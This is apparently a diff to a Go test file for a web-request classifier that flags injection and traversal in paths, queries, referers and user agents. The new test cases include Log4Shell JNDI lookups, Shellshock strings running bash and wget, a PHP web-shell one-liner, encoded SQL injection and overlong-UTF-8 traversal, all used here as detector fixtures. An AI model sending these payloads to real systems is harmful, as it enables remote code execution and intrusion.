@@ -3,6 +3,7 @@ package engine
 import (
 	"fmt"
 	"net/netip"
+	"strings"
 	"testing"
 	"time"
 )
@@ -236,7 +237,20 @@ func TestSignsAreReadAndOddButHonestQueriesShowNone(t *testing.T) {
 		{"http://other.example/", "", "", Relayed},
 		{"other.example:443", "", "", Relayed},
 		{"/a", "", "https://r.example/b", Referred},
-		{"/a", "", "https://r.example/a", 0},
+		{"/a", "", "https://r.example/a", Returned},
+		{"/a", "", "${jndi:ldap://e/a}", Injection},
+		{"/a", "", "() { :;}; /bin/bash -c id", Injection},
+		{"/a", "", "https://r.example/?q=${jndi:ldap://e/a}", Referred},
+		{"/a", "", "android-app://com.example.reader/", Referred},
+		{"/a", "", "about:blank", 0},
+		{"/a", "", "O'Reilly", 0},
+		{"/a", "id=1%2527%2520union%2520select%25201,2", "", Injection},
+		{"/scripts/..%c0%af../x", "", "", Traversal},
+		{"/" + strings.Repeat("\x90\x02\xb1\x02", 40), "", "", Injection},
+		{"/" + strings.Repeat("\x90", 40), "", "", Injection},
+		{"/" + strings.Repeat("\xb0\xa1\xc4\xe3", 20), "", "", 0}, // GBK
+		{"/%D0%BD%D0%BE%D0%B2%D0%BE%D1%81%D1%82%D0%B8/k%F6nig", "", "", 0},
+		{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x11\x12\x13\x14\x15\x16\x17", "", "", 0},
 		{"/a", "q=union+select+committee", "", 0},
 		{"/a", "name=O'Reilly+and+sons", "", 0},
 		{"/a", "redirect_uri=http://localhost:3000/callback&state=a%2Bb", "", 0},
@@ -247,6 +261,23 @@ func TestSignsAreReadAndOddButHonestQueriesShowNone(t *testing.T) {
 	} {
 		if got := ReadSigns(c.path, c.query, c.referer); got != c.want {
 			t.Errorf("%s?%s from %q: %b, want %b", c.path, c.query, c.referer, got, c.want)
+		}
+	}
+}
+
+func TestUserAgentThatIsCodeAccusesAndOneThatIsOddDoesNot(t *testing.T) {
+	for agent, want := range map[string]Signs{
+		"${jndi:ldap://198.18.7.7:1389/a}":                         Injection,
+		"Mozilla/5.0 ${jndi:${lower:l}dap://e/x}":                  Injection,
+		"() { :;}; /bin/bash -c \"wget http://e/x\"":               Injection,
+		"<?php system($_GET[0]); ?>":                               Injection,
+		"Mozilla/5.0 (X11; Linux x86_64; rv:148.0) Gecko/20100101": 0,
+		"Jack's reader {1.2} <jack@example.net> | beta":            0,
+		"'; DROP TABLE": Injection,
+		"":              0,
+	} {
+		if got := ReadAgent(agent); got != want {
+			t.Errorf("%s: %b, want %b", agent, got, want)
 		}
 	}
 }
